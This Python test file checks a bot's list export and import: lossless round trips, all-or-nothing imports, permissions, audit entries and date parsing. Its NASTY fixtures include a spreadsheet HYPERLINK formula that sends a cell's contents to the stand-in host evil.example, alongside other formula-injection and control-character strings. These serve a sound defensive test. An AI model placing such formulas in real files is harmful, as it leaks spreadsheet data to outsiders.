"""Exporting and importing lists, on both engines: a round trip changes nothing, and an import applies fully or not at all."""

from datetime import UTC, date, time
from typing import Any

import pytest
from given.files import read
from given.operations.exchange import LATER, actor, everything, exported, taken, what
from sqlmodel import Session, col, select

from bot.files import Format
from bot.operations import perform
from bot.operations.tables import imports as exchange
from bot.rules.permissions import Refused
from bot.rules.tables.plans import FILED, RowProblem
from store.database import Database, read as ask
from store.models import (
    Cluster,
    ClusterFact,
    ClusterText,
    CountrySection,
    Entry,
    Member,
    Noun,
    Representation,
    Revision,
    Source,
    metadata,
)
from store.queries.network.settings import stamp
from store.queries.tables import exchange as stored

FORMULA = '=HYPERLINK("http://evil.example?x="&A1;"open")'
NASTY = (
    FORMULA,
    "'=1+1",
    "@SUM(1;=2)",
    "-5 %; +33 1 23",
    "a | b \\ c \\| d",
    "\tTab, “quotes”, \"more\", 'less'",
    "عربي \u202eright to left\u202c 日本語 👩‍👩‍👧‍👦 <!channel> &amp;",
    "one\r\ntwo\n\n\nthree  ",
    "_x000D_ \x0b \x01",
)


@pytest.mark.parametrize("form", Format)
def test_the_whole_data_set_out_and_in_changes_nothing(full: Database, form: Format) -> None:
    """Exporting and importing every list in every format leaves every row of every table unchanged."""
    before = ask(full, everything)
    for noun in FILED:
        plan = taken(full, noun, read(exported(full, noun, form, ";"), f"x.{form}", noun))
        assert (plan.troubles, plan.new, plan.changed, plan.missing) == ((), 0, 0, 0)
        assert plan.same == len(ask(full, stored.rows, noun)) > 0
    assert ask(full, everything) == before


def hostile(db: Session) -> None:
    """Rows whose texts try to break the file format, also beyond today's limits."""
    for number, text in enumerate(NASTY):
        key = f"nasty-{number}"
        db.add(Source(key=key, title=text))
        lists: dict[str, Any] = {name: [text, text, f" {text}", ""] for name in ("aliases", "specialisations", "services", "labels")}
        cluster = Cluster(key=key, name=text, website=text, video=text, hours=text * 50, links=[[text, text]], **lists)
        db.add(cluster)
        db.flush()
        assert cluster.id is not None
        db.add_all(ClusterText(cluster_id=cluster.id, language=language, presentation=text * 300) for language in ("en", "xx-unknown"))
        db.add(ClusterFact(cluster_id=cluster.id, name=text, value=text, year=99_999, source=key))
        answers = {"who_sells": text, "gone_question": f"x\nlabel: {text}"}
        country = ("KR", "JP", "FR", "IT", "ES", "PT", "BE", "US", "CA")[number]
        db.add(CountrySection(country=country, name="regulation", text=text, source=key, answers=answers, checked_on=date(2999, 1, 1)))
        db.add(Member(slack_id=f"UNASTY{number}", name=text, zone="Nowhere/At all", locale=text, quiet_from=time(23, 59), muted=[text]))


@pytest.mark.parametrize("form", Format)
def test_hostile_data_out_and_in_changes_nothing(database: Database, form: Format) -> None:
    """Values that are stored already are not validated again: an unchanged file changes nothing."""
    perform(database, hostile)
    before = ask(database, everything)
    for noun in FILED:
        plan = taken(database, noun, read(exported(database, noun, form), f"x.{form}", noun))
        assert (plan.troubles, plan.same) == ((), len(NASTY))
    after = ask(database, everything)
    assert {name: rows for name, rows in after.items() if name != "network"} == {n: r for n, r in before.items() if n != "network"}


@pytest.mark.parametrize("form", Format)
def test_a_network_can_be_moved_to_an_empty_database(full: Database, form: Format) -> None:
    """Importing all lists in order into an empty database gives the same lists."""
    files = {noun: exported(full, noun, form) for noun in FILED}
    perform(
        full, lambda db: [db.connection().execute(table.delete()) for table in reversed(metadata.sorted_tables) if table.name != "audit"]
    )
    for noun, data in files.items():
        plan = taken(full, noun, read(data, f"x.{form}", noun))
        assert (what(plan), plan.changed, plan.same) == ([], 0, 0)
    ignored = {"number", "version"}
    for noun, data in files.items():
        old = [{**row.cells} for row in read(data, f"x.{form}", noun).rows]
        new = [{**row.cells} for row in read(exported(full, noun, form), f"x.{form}", noun).rows]
        assert [{k: v for k, v in row.items() if k not in ignored} for row in new] == [
            {k: v for k, v in row.items() if k not in ignored} for row in old
        ]


def test_what_is_missing_is_left_alone_and_counted(full: Database) -> None:
    """Rows and columns that are not in the file stay unchanged; an empty cell empties its field."""
    plan = taken(full, Noun.CLUSTERS, "key;since;hours\ncosmetic-valley;;Monday to Friday\n")
    assert (plan.changed, plan.missing, plan.applied) == (1, 15, True)
    [row] = [one for one in ask(full, stored.clusters) if one["key"] == "cosmetic-valley"]
    assert (row["since"], row["hours"], row["name"], len(row["facts"])) == (None, "Monday to Friday", "Cosmetic Valley", 5)


def test_a_change_keeps_what_was_and_says_who(full: Database) -> None:
    """An import keeps the old version, raises the network's revision, and logs operator or member without content."""
    revision = ask(full, stamp)
    taken(full, Noun.CLUSTERS, "key,website\ncosmetic-valley,https://new.example\n")
    with Session(full.reader) as db:
        [kept] = db.exec(select(Revision)).all()
        [entry] = db.exec(select(Entry).where(col(Entry.verb) == "network.import")).all()
        cluster = db.exec(select(Cluster).where(col(Cluster.key) == "cosmetic-valley")).one()
    assert (kept.noun, kept.subject, kept.number, kept.data["website"], kept.author_id) == ("clusters", str(cluster.id), 0, "", None)
    assert (entry.role, entry.verb, entry.actor_id, entry.fields, entry.cluster_id) == (
        "operator",
        "network.import",
        None,
        ["website"],
        cluster.id,
    )
    assert (cluster.website, cluster.version) == ("https://new.example", 1)
    after = ask(full, stamp)
    assert revision is not None
    assert after is not None
    assert after.revision > revision.revision


def test_only_the_secretariat_may_and_is_named(full: Database) -> None:
    """A point of contact is refused, and nothing changes; the secretariat's member stands in the audit log."""
    came = read(b"key,website\ncosmetic-valley,https://new.example\n", "x.csv", Noun.CLUSTERS)
    before = ask(full, everything)
    refused = perform(full, exchange.apply, actor=actor(full, "UPARIS02"), noun=Noun.CLUSTERS, table=came, now=LATER)
    assert isinstance(refused, Refused)
    assert ask(full, everything) == before
    paris = actor(full, "UPARIS01")
    assert taken(full, Noun.CLUSTERS, came, paris).applied
    with Session(full.reader) as db:
        [entry] = db.exec(select(Entry).where(col(Entry.verb) == "network.import")).all()
    assert (entry.actor_id, entry.role) == (paris.member_id, "secretariat")


def test_with_one_bad_row_nothing_is_changed(full: Database) -> None:
    """A bad row prevents the good rows from being applied, too."""
    before = ask(full, everything)
    plan = taken(full, Noun.CLUSTERS, "key,website\ncosmetic-valley,https://new.example\niba,nowhere\n")
    assert what(plan) == [(3, "website", "address")]
    assert (plan.changed, plan.applied) == (1, False)
    assert ask(full, everything) == before


def test_a_thousand_rows_with_three_bad_ones_name_all_three(database: Database) -> None:
    """Every bad row is reported; without them all rows are imported, with formulas kept as text."""
    rows = [f'c-{n},"{n} =1+1",KR,"@a{n}\n+b{n}",-x,https://c{n}.example,=SUM(A1)' for n in range(1000)]
    heading = "key,name,countries,aliases,hours,website,presentation"
    bad = [*rows]
    bad[9], bad[499], bad[998] = "c-9,x,ZZ,,,,", "c-499,y,KR,,,nowhere,", "c-9,z,KR,,,,"
    lines = [2 + 2 * 9, 1 + 2 * 499, 2 * 998]  # each good row has two lines
    plan = taken(database, Noun.CLUSTERS, "\n".join([heading, *bad]))
    assert what(plan) == [(lines[0], "countries", "country"), (lines[1], "website", "address"), (lines[2], "key", "key_twice")]
    assert ask(database, stored.clusters) == []
    assert taken(database, Noun.CLUSTERS, "\n".join([heading, *rows])).new == 1000
    last = ask(database, stored.clusters)[-1]
    assert (last["aliases"], last["hours"], last["presentation"]) == (["@a999", "+b999"], "-x", "=SUM(A1)")
    assert taken(database, Noun.CLUSTERS, exported(database, Noun.CLUSTERS)).same == 1000


def test_a_date_that_excel_rewrote_is_still_the_same_day(full: Database) -> None:
    """A French Excel rewrites 2026-03-01 as 01/03/2026, which is read as the same date."""
    assert taken(full, Noun.CLUSTERS, "key,checked_on\niba,2026-03-01\n").changed == 1
    for written in ("01/03/2026", "3/1/2026", "1.3.2026", "2026. 3. 1", "2026/03/01"):
        assert taken(full, Noun.CLUSTERS, f"key,checked_on\niba,{written}\n").same == 1
    assert taken(full, Noun.CLUSTERS, "key,checked_on\niba,28/03/2026\n").changed == 1
    older = taken(full, Noun.CLUSTERS, "key,checked_on\niba,2026-03-01\n")
    assert (older.same, older.changes[0].meanwhile) == (1, ("checked_on",))


def test_retiring_by_a_file_is_as_retiring_by_a_button(full: Database) -> None:
    """Retiring by import ends its representations, and bringing it back does not restore them."""
    assert taken(full, Noun.CLUSTERS, "key,retired\niba,yes\n").changed == 1
    with Session(full.reader) as db:
        row = db.exec(select(Cluster).where(col(Cluster.key) == "iba")).one()
        assert db.exec(select(Representation).where(col(Representation.cluster_id) == row.id)).all() == []
    assert row.retired_at is not None
    assert row.retired_at.astimezone(UTC).date() == LATER.date()
    assert taken(full, Noun.CLUSTERS, exported(full, Noun.CLUSTERS)).same == 16
    assert taken(full, Noun.MEMBERS, "slack_id,represents\nUCALI01,iba\n").troubles[0].what == RowProblem.CLUSTER_RETIRED
    assert taken(full, Noun.CLUSTERS, "key,retired\niba,\n").changes[0].meanwhile == ("retired",)
    assert taken(full, Noun.CLUSTERS, "key,retired\niba,no\n").changed == 1


def part(database: Database, key: str) -> dict[str, Any] | None:
    """One section of a country's page."""
    return next((one for one in ask(database, stored.countries) if one["key"] == key), None)


def test_parts_of_countries_come_by_file(full: Database) -> None:
    """A country's section can be added, changed and removed by import; history keeps each version."""
    answers = "label: In Korean.\nAnd: English.\nwho_sells: All"
    text = f'country,section,answers,text,source,checked_on\nkr,Regulation,"{answers}",Text,A law,2026-01-31\n'
    assert taken(full, Noun.COUNTRIES, text).new == 1
    written = part(full, "KR/regulation")
    assert written is not None
    assert written["answers"] == {"label": "In Korean.\nAnd: English.", "who_sells": "All"}
    assert (written["source"], written["checked_on"]) == ("A law", date(2026, 1, 31))
    assert taken(full, Noun.COUNTRIES, exported(full, Noun.COUNTRIES)).same == 5
    assert taken(full, Noun.COUNTRIES, "country,section,answers,text\nKR,regulation,,\n").changed == 1
    assert part(full, "KR/regulation") is None
    with Session(full.reader) as db:
        kept = db.exec(select(Revision).where(col(Revision.subject) == "KR/regulation").order_by(col(Revision.number))).all()
    assert [one.data.get("text") for one in kept] == [None, "Text"]
